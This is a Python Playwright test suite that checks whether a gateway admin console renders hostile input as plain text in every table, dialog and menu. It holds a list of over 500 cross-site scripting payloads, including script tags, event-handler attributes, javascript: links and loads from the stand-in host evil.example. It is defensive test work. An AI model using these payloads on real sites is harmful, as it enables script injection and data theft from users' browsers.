"""T-XSS: what people, programs and providers write is text wherever the console shows it. In a real Chromium, under the
real content security policy, every text of every answer is replaced by attacks: no script runs, no request leaves."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route, StorageState, expect

from browsing import Watched, joined, local, named_gateway, watched
from harness import Gateway
from upstream import Upstream

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
expect.set_options(timeout=15_000)

WAYS_OUT = ("", '">', "'>", "</script>", "</style>", "</textarea>", "</title>", "-->", "]]>", "`", "\\")
"""What ends the place that a text might have been put in."""

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=//evil.example/seen.png>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<math><mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "<button formaction=javascript:alert(1) autofocus>x",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example/x)>x",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "![x](https://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "'-alert(1)-'",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cimg src=x onerror=alert(1)%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\u202e<img src=x onerror=alert(1)>",
)
PAYLOADS = [way + attack for attack in ATTACKS for way in WAYS_OUT]
TOGETHER = 16
LUMPS = [" ".join(PAYLOADS[at : at + TOGETHER]) for at in range(0, len(PAYLOADS), TOGETHER)]

ALIVE = """
() => [...document.querySelectorAll('main *, [role=dialog] *, [role=menu] *, header *')]
  .filter((el) =>
    /^(script|iframe|object|embed|base|link|meta|template|marquee|video|audio|math|style)$/i.test(el.tagName)
    || [...el.attributes].some(({ name }) => name.startsWith('on'))
    || /^\\s*(javascript|data|vbscript):/i.test(el.getAttribute('href') || '')
    || el.tagName === 'IMG')
  .filter((el) => !el.matches('style[data-mantine-styles]'))  // what the components write of their own
  .map((el) => el.outerHTML.slice(0, 200))
"""
"""Elements that only an attack could have made: the pages themselves have none of these."""

HOSTILE = "<img src=x onerror=alert(1)>"
NAMES = ("name", "first_name", "last_name", "email")
"""What the frame shows of a session. Its other texts decide what is shown at all."""


def test_there_are_five_hundred_attacks() -> None:
    assert len(set(PAYLOADS)) >= 500
    assert all(any(payload in lump for lump in LUMPS) for payload in PAYLOADS)


@pytest.fixture(name="upstream", scope="module")
def _upstream() -> Iterator[Upstream]:
    played = Upstream().start()
    yield played
    played.stop()


@pytest.fixture(name="gateway", scope="module")
def _gateway(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[Gateway]:
    """One of everything, each with an attack in whatever can be written."""
    folder: Path = tmp_path_factory.mktemp("xss")
    gateway = named_gateway(folder / "data").init().start()
    hostile = HOSTILE

    def made(path: str, auth: str = gateway.admin_key, /, **body: Any) -> Any:
        reply = gateway.call("POST", f"/v1/{path}", body, key=auth)
        assert reply.status < 300, reply.body
        return reply.json

    mine = gateway.workspace_key
    played = {"name": "played", "slug": "xss-played", "provider": "openai", "key": "sk-x-0123456789"}
    made("virtual-keys", mine, **played, custom_host=upstream.url)
    made("admin/workspaces", name=hostile, description=hostile, icon="<b>", defaults={"metadata": {"a": hostile}})
    place = {"id": gateway.keys["workspace_id"], "role": "member"}
    joined(gateway, f"Mallory {hostile}", workspaces=[place])
    made("admin/users/invites", email="late@example.org", role="member")
    made("integrations", name=hostile, description=hostile, ai_provider_id="openai", key="sk-x-0123456789")
    made("secret-references", name=hostile, description=hostile, manager_type="env", secret_path="X")
    made("virtual-keys", mine, name=hostile, note=hostile, provider="openai", key="sk-x-0123456789")
    bait = made("honeytokens", name=hostile, note=hostile, kind="workspace-service", workspace_id=place["id"])
    gateway.call("POST", "/v1/chat/completions", {"model": "m"}, bait["key"], user_agent=hostile)
    made("configs", mine, name=hostile, config={"virtual_key": "xss-played", "override_params": {"model": hostile}})
    asked = {"model": f"@xss-played/{hostile}", "messages": [{"role": "user", "content": hostile}]}
    said = {"x_portkey_trace_id": "<svg onload=alert(3)>", "x_portkey_metadata": json.dumps({hostile: hostile})}
    assert gateway.call("POST", "/v1/chat/completions", asked, mine, **said).status == 200
    yield gateway
    gateway.stop()


@pytest.fixture(name="origin", scope="module")
def _origin(gateway: Gateway) -> str:
    return local(gateway)


@pytest.fixture(scope="module", autouse=True)
def _provider(browser: Browser, origin: str, session: StorageState) -> None:
    """An identity provider, which only an owner adds who has just logged in."""
    made = watched(browser, origin, storage_state=session)
    body = {"name": HOSTILE, "issuer": "http://127.0.0.1:9", "client_id": HOSTILE, "client_secret": "secret-of-one"}
    added = made.page.context.request.post(
        f"{origin}/v1/admin/organisation/sso",
        data={**body, "domains": ["example.com"]},
        headers={"x-lockgate-console": "1", "origin": origin},
    )
    assert added.ok, added.text()
    made.page.context.close()


def poisoned(value: Any, lump: str) -> Any:
    """`value` with every text in it replaced."""
    if isinstance(value, str):
        return lump
    if isinstance(value, list):
        return [poisoned(one, lump) for one in value]
    if isinstance(value, dict):
        return {name: poisoned(one, lump) for name, one in value.items()}
    return value


def kept(body: Any, before: Any, *names: str) -> Any:
    """`body` with these fields as they were: without them there is nothing to show."""
    return body | {name: before[name] for name in names if name in before}


def answer(route: Route) -> None:
    """The gateway's own answer, with the first row of a list in every poison there is."""
    request = route.request
    if request.method != "GET":
        return route.continue_()
    reply = route.fetch()
    if not reply.ok or "json" not in reply.headers.get("content-type", ""):
        return route.fulfill(response=reply)
    body, path = reply.json(), urlsplit(request.url).path
    if path == "/v1/session":
        body["organisation"]["name"] = LUMPS[0]
        body["user"] |= dict.fromkeys(NAMES, LUMPS[1])
        body["workspaces"] = [one | {"name": LUMPS[2]} for one in body["workspaces"]]
    elif re.fullmatch(r"/v1/logs/[^/]+", path):
        body = kept(poisoned(body, LUMPS[3]), body, "id", "created_at")
    elif re.fullmatch(r"/v1/configs/pc-[^/]+", path):
        body |= {"name": LUMPS[4], "config": json.dumps({"note": LUMPS[5], "targets": [{"name": LUMPS[6]}]})}
    elif isinstance(rows := body.get("data"), list) and rows and path not in {"/v1/me/can", "/v1/scopes"}:
        body["data"] = [poisoned(rows[0], lump) | {"id": f"row-{at}"} for at, lump in enumerate(LUMPS)]
        body["total"] = len(LUMPS)
    return route.fulfill(response=reply, json=body)


def first_act(page: Page, item: str) -> None:
    page.get_by_role("button", name=re.compile("^Actions for")).first.click()
    page.get_by_role("menuitem", name=item).click()


ROOMS = (
    ("/workspaces", "Workspaces", "Edit"),
    ("/members", "People", "Remove"),
    ("/members?tab=invites", "Invites", None),
    ("/integrations", "Integrations", "Delete"),
    ("/secrets", "Secret references", "Delete"),
    ("/watch", "Alerts", None),
    ("/watch?tab=bait", "Honeytokens", "Delete"),
    ("/audit", "Audit log", None),
    ("/keys", "API keys", "Edit"),
    ("/virtual-keys", "Virtual keys", "Delete"),
    ("/account", "Sessions", None),
    ("/security?tab=sso", "Identity providers", "Edit"),
    ("/configs", "Configs", "Delete"),
    ("/logs?range=all", "Logs", None),
)


@pytest.mark.parametrize(("path", "table", "item"), ROOMS)
def test_no_text_of_any_answer_becomes_anything_but_text(
    console: Watched, path: str, table: str, item: str | None
) -> None:
    page = console.page
    page.route("**/v1/**", answer)
    page.goto(path)
    shown = page.get_by_role("table", name=table)
    expect(shown).to_contain_text("onerror=alert(1)")
    assert shown.locator("tbody tr").count() == len(LUMPS)
    if item:
        first_act(page, item)
        expect(page.get_by_role("dialog")).to_be_visible()
    if table in {"Audit log", "Logs"}:
        shown.locator(".row-link").first.click()
        expect(page.get_by_role("dialog")).to_be_visible()
    assert page.evaluate(ALIVE) == []
    console.check()
    page.unroute_all(behavior="ignoreErrors")


def test_one_call_and_one_config_show_text_in_all_their_parts(console: Watched, gateway: Gateway) -> None:
    page = console.page
    call_id = gateway.call("GET", "/v1/logs").json["data"][0]["id"]
    slug = gateway.call("GET", "/v1/configs").json["data"][0]["slug"]
    page.route("**/v1/**", answer)
    page.goto(f"/logs/{call_id}?range=all")
    call_shown = page.get_by_role("dialog", name="Request")
    expect(call_shown).to_contain_text("alert(1)")
    for tab in call_shown.get_by_role("tab").all():
        tab.click()
        expect(call_shown.get_by_role("tabpanel")).to_be_visible()
        assert page.evaluate(ALIVE) == [], tab.inner_text()
    for path in (f"/configs/{slug}", f"/configs/{slug}/versions"):
        page.goto(path)
        expect(page.locator("main")).to_contain_text("alert(1)")
        expect(page.locator("[aria-busy=true]")).to_have_count(0)
        assert page.evaluate(ALIVE) == [], path
    console.check()
    page.unroute_all(behavior="ignoreErrors")


def test_the_menu_of_workspaces_and_that_of_the_person_show_text(console: Watched) -> None:
    page = console.page
    page.route("**/v1/**", answer)
    page.goto("/")
    for name in ("^Workspace ", "^Profile menu"):
        page.get_by_role("button", name=re.compile(name)).click()
        expect(page.get_by_role("menu", name=re.compile(name))).to_contain_text("alert(1)")
        assert page.evaluate(ALIVE) == []
        page.keyboard.press("Escape")
    page.unroute_all(behavior="ignoreErrors")


def test_what_was_written_is_shown_as_it_was_written(console: Watched) -> None:
    """Through the gateway itself: nothing is stripped on the way in, and nothing comes alive on the way out."""
    page = console.page
    for path, table, _ in ROOMS:
        if table in {"Invites", "API keys", "Sessions", "Audit log", "Logs"}:
            continue  # nobody wrote these
        page.goto(path)
        expect(page.get_by_role("table", name=table)).to_contain_text("<img src=x onerror=alert(1)>")
        assert page.evaluate(ALIVE) == [], path
